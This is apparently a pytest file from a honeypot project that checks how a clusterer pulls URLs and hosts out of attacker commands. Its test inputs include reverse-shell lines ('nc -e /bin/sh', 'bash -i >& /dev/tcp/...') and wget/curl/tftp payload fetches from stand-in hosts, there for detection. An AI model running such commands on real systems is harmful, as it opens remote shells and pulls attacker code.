# SPDX-License-Identifier: MIT
"""Hosts that commands name without a scheme."""

import time

import pytest

from decnet_core.events.catalogue import CommandRun
from decnet_workers.clusterer.signals import signals
from decnet_workers.clusterer.texts.command_text import hosts, parts, urls


@pytest.mark.parametrize(
    ("command", "fetched", "host", "part"),
    [
        ("wget evil.example.net/x", "http://evil.example.net/x", "evil.example.net", "wget URL"),
        ("wget Evil.example.net:8080/x", "http://evil.example.net:8080/x", "evil.example.net", "wget URL"),
        ("/bin/busybox wget 192.0.2.7/run.sh", "http://192.0.2.7/run.sh", "192.0.2.7", "/bin/busybox wget URL"),
        ("wget -qO run.sh a.net/run.sh -o a.py", "http://a.net/run.sh", "a.net", "wget -qO run.sh URL -o a.py"),
        ("curl -fsSL 'a.net/i?x=1&y=2' -o i.sh", "http://a.net/i?x=1&y=2", "a.net", "curl -fsSL 'URL' -o i.sh"),
        (
            "curl -H 'Host: www.b.net' --data b.net/y a.net/z",
            "http://a.net/z",
            "a.net",
            "curl -H 'Host: www.b.net' --data b.net/y URL",
        ),
        ("wget --domains b.net a.net/z", "http://a.net/z", "a.net", "wget --domains b.net URL"),
        ("curl --resolve b.net a.net/z", "http://a.net/z", "a.net", "curl --resolve b.net URL"),
        ('sh -c "curl a.cc/i"', "http://a.cc/i", "a.cc", 'sh -c "curl URL"'),
        ("$(curl -s a.cc/i)", "http://a.cc/i", "a.cc", "$(curl -s URL)"),
        ("sudo timeout 10 curl a.cc/i", "http://a.cc/i", "a.cc", "sudo timeout 10 curl URL"),
    ],
)
def test_what_is_fetched_without_a_scheme_is_a_url(command: str, fetched: str, host: str, part: str) -> None:
    assert urls(command) == [fetched]
    assert hosts(command) == [host]
    assert parts(command) == [part]


@pytest.mark.parametrize(
    ("command", "host", "part"),
    [
        ("nc evil.example.net 4444", "evil.example.net", "nc ADDRESS #"),
        ("nc -e /bin/sh evil.pl 99", "evil.pl", "nc -e /bin/sh ADDRESS 99"),
        ("ftpget -u a evil.example.net host file.sh", "evil.example.net", "ftpget -u a ADDRESS host file.sh"),
        ("tftp -g -r f.sh evil.example.net", "evil.example.net", "tftp -g -r f.sh ADDRESS"),
        ("tftp evil.example.net -c get f.sh", "evil.example.net", "tftp ADDRESS -c get f.sh"),
        ("telnet evil.example.net 23", "evil.example.net", "telnet ADDRESS 23"),
        ("ssh -o X=no me@evil.example.net cat a.py", "evil.example.net", "ssh -o X=no me@ADDRESS cat a.py"),
        ("scp x.tar.gz me@evil.example.net:/a.py", "evil.example.net", "scp x.tar.gz me@ADDRESS:/a.py"),
        ("bash -i >& /dev/tcp/a.net/443 0>&1", "a.net", "bash -i >& /dev/tcp/ADDRESS/# 0>&1"),
    ],
)
def test_what_is_called_is_a_host(command: str, host: str, part: str) -> None:
    assert (urls(command), hosts(command), parts(command)) == ([], [host], [part])


@pytest.mark.parametrize(
    "command",
    [
        "sh run.sh",
        "chmod +x a.py x.tar.gz",
        "tar xzf x.tar.gz",
        "apt install wget curl net.tools",
        "chmod +x nc run.sh",
        "scp a.py b.py",
        "nc -lvp 44 a.net",
        "curl -O x.sh",
        "wget -O x.sh",
        "tftp -g -r x.sh",
        "curl $HOST/x.sh",
        "telnet localhost 23",
    ],
)
def test_files_and_listeners_are_no_hosts(command: str) -> None:
    assert (urls(command), hosts(command), parts(command)) == ([], [], [command])


def test_the_front_page_of_a_public_service_is_no_url_of_anybodys() -> None:
    shown = [one for text in ("curl ifconfig.me", "curl https://ifconfig.me/") for one in signals(_run(text))]
    assert {one.key[0] for one in shown} == {"command", "host"}
    assert "url" in {one.key[0] for one in signals(_run("curl pastebin.com/raw/x"))}


def _run(command: str) -> CommandRun:
    return CommandRun(service="ssh", command=command)


@pytest.mark.parametrize(
    "text", ["wget a.net/x ", "'\"", "wget a.", "if/", "wget '", "/dev/tcp/", ";wget -", "wget a@", ";", "(wget", "/"]
)
def test_no_text_takes_long(text: str) -> None:
    start = time.process_time()
    for read in (parts, urls, hosts):
        read(text * 4096)
    assert time.process_time() - start < 0.1
